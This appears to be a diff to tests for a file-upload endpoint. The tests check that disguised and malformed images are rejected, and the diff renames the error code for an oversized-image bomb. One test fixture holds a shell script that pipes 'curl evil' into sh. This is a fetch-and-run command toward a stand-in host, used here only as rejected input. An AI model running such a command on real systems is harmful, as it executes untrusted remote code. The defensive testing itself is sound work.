@@ -121,7 +121,7 @@ describe("attachments/create", () => {
     ["a script named .png", Buffer.from("#!/bin/sh\ncurl evil | sh\n"), 415, "invalid_file_type"],
     ["an SVG named .png", Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 415, "invalid_file_type"],
     ["a cut PNG", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex"), 422, "invalid_image"],
-    ["a header of 256 megapixels", bomb(16_000), 422, "invalid_image"],
+    ["a header of 256 megapixels", bomb(16_000), 422, "image_too_large"],
   ])("refuses %s", async (_, bytes, status, code) => {
     const { tenant, upload } = await newField();
     const answer = await upload(fields(), bytes, "photo.png");
